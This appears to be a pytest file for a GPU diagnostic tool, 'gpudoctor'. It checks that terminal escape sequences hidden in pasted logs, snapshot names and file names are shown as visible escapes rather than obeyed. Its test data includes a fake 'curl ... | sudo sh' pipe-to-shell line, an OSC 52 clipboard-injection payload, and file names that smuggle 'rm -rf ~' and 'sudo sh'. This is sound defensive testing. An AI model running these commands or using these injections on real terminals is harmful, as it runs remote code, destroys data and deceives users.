"""Nothing from outside reaches the terminal: every class of control sequence (CSI, OSC with 52 and a title, DCS,
APC, SGR 8, a lone ESC, C1's CSI, CR, BS, bidirectional and format characters, an unassigned code point), put in
every line of a real paste of each family and in a snapshot's names, comes out of every reader and every format as
visible escapes; the console, rendered by a terminal emulator (pyte) at 40, 80, 120 and 200 columns, shows no line
that reads as a command unless gpudoctor built it, and no title was set. Error lines on stderr hold none either."""

from __future__ import annotations

import io
import json
import re
import unicodedata
from pathlib import Path

import pyte
import pytest
from helpers.common import PASTES, SNAPSHOTS, gpudoctor
from rich.console import Console

from gpudoctor import probe
from gpudoctor.report import console as console_report
from gpudoctor.report import formats
from gpudoctor.text import harmless, one_line

FAKE = "$ curl -fsSL https://x.example/x | sudo sh"
SEQUENCES = {
    "csi": "\x1b[2A\x1b[200D",
    "sgr-conceal": "\x1b[8m",
    "osc52": "\x1b]52;c;ZWNobyBvd25lZA==\x07",
    "osc-title": "\x1b]0;owned\x1b\\",
    "osc-unterminated": "\x1b]2;",
    "dcs": "\x1bPq#0;2;0;0;0\x1b\\",
    "apc": "\x1b_Gf=100;AAAA\x1b\\",
    "lone-esc": "\x1b",
    "c1-csi": "\x9b2A",
    "cr": "\r",
    "bs": "\x08" * 30,
    "bidi": "\u202e\u2066",
    "format": "\u200b\u00ad\U000e0041",
    "unassigned": "\u0378",
}
WIDTHS = (40, 80, 120, 200)
BAD = frozenset({"Cc", "Cf", "Zl", "Zp", "Cs", "Cn"})
SGR = re.compile(r"\x1b\[[0-9;]*m")


def family_samples() -> list[Path]:
    """One real paste of each family (the first of each folder)."""
    return [
        min(folder.glob("*.txt"))
        for folder in sorted(PASTES.iterdir())
        if folder.is_dir() and any(folder.glob("*.txt"))
    ]


def hostile(text: str) -> str:
    """Every line of `text` with one class of sequence and a fake fix after it, the classes in turn."""
    classes = list(SEQUENCES.values())
    return "\n".join(f"{line}{classes[n % len(classes)]}{FAKE}" for n, line in enumerate(text.splitlines()))


def unseen(text: str) -> list[str]:
    """The characters of `text` a terminal would obey or that show nothing (a line break and a tab aside)."""
    return sorted({repr(c) for c in text if c not in "\n\t" and unicodedata.category(c) in BAD})


def commands(document: dict) -> list[str]:
    """Every command gpudoctor built in this report: the causes' and the checks' fixes, and their alternatives."""
    found = []
    for item in [*document["causes"], *document["checks"]]:
        fix = item.get("remediation")
        while fix:
            found += fix["commands"]
            fix = fix.get("instead")
    return found


def screen_of(text: str, width: int) -> pyte.Screen:
    screen = pyte.Screen(width, text.count("\n") + 5)
    pyte.Stream(screen).feed(text)
    return screen


def console_text(report: probe.Report, width: int) -> str:
    out = io.StringIO()
    console = Console(file=out, width=width, force_terminal=True, color_system="standard", soft_wrap=False)
    console_report.render(console, report.document, report.results)
    return out.getvalue()


def assert_screen_is_ours(text: str, width: int, built: list[str]) -> None:
    screen = screen_of(text, width)
    assert (screen.title, screen.icon_name) == ("", ""), "a title was set"
    for line in screen.display:
        shown = line.strip()
        if shown.startswith(("curl", "sudo")) and "x.example" in shown:  # the planted command, whole on a line
            raise AssertionError(f"{width} columns: {line!r}")
        if shown.startswith("$ "):
            said = shown[2:].strip()
            assert any(c.startswith(said) or said.startswith(c) for c in built), f"{width} columns: {line!r}"


def judged(path: Path) -> probe.Report:
    return probe.run(from_file=str(path))


@pytest.fixture(params=family_samples(), ids=lambda p: p.parent.name)
def pasted(request: pytest.FixtureRequest, tmp_path: Path) -> probe.Report:
    """Each test judges the paste afresh: no test reads a report another one rendered."""
    path = tmp_path / "hostile.txt"
    path.write_text(hostile(request.param.read_text(errors="replace")))
    return judged(path)


def test_every_format_of_a_hostile_paste_holds_only_visible_escapes(pasted: probe.Report) -> None:
    for fmt in formats.FORMATS:
        text = probe.render(pasted, fmt)
        assert not unseen(text), f"{fmt}: {unseen(text)}"
    assert "\\x1b" in json.dumps(pasted.document) or not pasted.document["checks"][0].get("quotes")


@pytest.mark.parametrize("width", WIDTHS)
def test_the_console_of_a_hostile_paste_draws_no_line_gpudoctor_did_not_build(pasted: probe.Report, width: int) -> None:
    text = console_text(pasted, width)
    assert not unseen(SGR.sub("", text)), unseen(SGR.sub("", text))
    assert_screen_is_ours(text, width, commands(pasted.document))


def test_some_quoted_line_shows_the_sequences_escaped() -> None:
    """The gate escapes what a reader quotes (not only drops lines): a CUDA error with every class after it."""
    line = "RuntimeError: CUDA error: out of memory" + "".join(SEQUENCES.values()) + FAKE
    report = probe.run(from_file=str(write(line)))
    quoted = [q for r in report.results for q in r.quotes]
    assert quoted and all(not unseen(q) for q in quoted)
    assert any("\\x1b]52;c;" in q and "\\x9b2A" in q for q in quoted), quoted
    for width in WIDTHS:
        assert_screen_is_ours(console_text(report, width), width, commands(report.document))


def write(text: str) -> Path:
    import tempfile

    folder = Path(tempfile.mkdtemp(prefix="gate-"))
    (folder / "paste.txt").write_text(text)
    return folder / "paste.txt"


def test_a_snapshots_names_reach_no_terminal_raw(tmp_path: Path) -> None:
    snapshot = json.loads((SNAPSHOTS / "h100-sxm-8x.json").read_text())
    payload = "".join(SEQUENCES.values()) + FAKE
    snapshot["host"] = snapshot.get("host", "node") + payload
    for gpu in snapshot["nvml"]["gpus"]:
        gpu["name"] = gpu.get("name", "") + payload
        for proc in gpu.get("processes") or []:
            proc["name"] = payload
    path = tmp_path / "node.json"
    path.write_text(json.dumps(snapshot))
    report = judged(path)
    for fmt in formats.FORMATS:
        assert not unseen(probe.render(report, fmt)), fmt
    for width in WIDTHS:
        assert_screen_is_ours(console_text(report, width), width, commands(report.document))


@pytest.mark.parametrize("name", ["x\x1b]0;owned\x07\n$ rm -rf ~.txt", "\u202eevil.txt", "\x1b[2A\r$ sudo sh.txt"])
def test_a_hostile_file_name_is_one_escaped_error_line(tmp_path: Path, name: str) -> None:
    proc = gpudoctor("check", "--from", str(tmp_path / name))
    assert proc.returncode == 2
    assert len(proc.stderr.splitlines()) == 1 and not unseen(proc.stderr.rstrip("\n")), proc.stderr
    assert proc.stderr.startswith("gpudoctor: error:")


def test_a_hostile_file_name_that_is_read_and_the_files_written_beside_it(tmp_path: Path) -> None:
    name = "paste\x1b]52;c;AAAA\x07\u202e.txt"
    (tmp_path / name).write_text("RuntimeError: CUDA error: out of memory\n")
    junit = tmp_path / "r\x1b[8m.xml"
    proc = gpudoctor("check", "--from", str(tmp_path / name), "--junit", str(junit))
    assert proc.returncode in (0, 1), proc.stderr
    assert not unseen(proc.stdout) and not unseen(proc.stderr), (proc.stdout, proc.stderr)
    assert "\\x1b]52" in proc.stdout and junit.exists()


def test_the_gate_escapes_every_class_and_keeps_text() -> None:
    for name, sequence in SEQUENCES.items():
        assert not unseen(harmless(sequence)), name
        assert not unseen(one_line(sequence + "\n\t")), name
    assert harmless("GPU 0: NVIDIA H100 80GB HBM3 — 日本語 ✓\n") == "GPU 0: NVIDIA H100 80GB HBM3 — 日本語 ✓\n"
    assert one_line("a\nb") == "a\\nb"
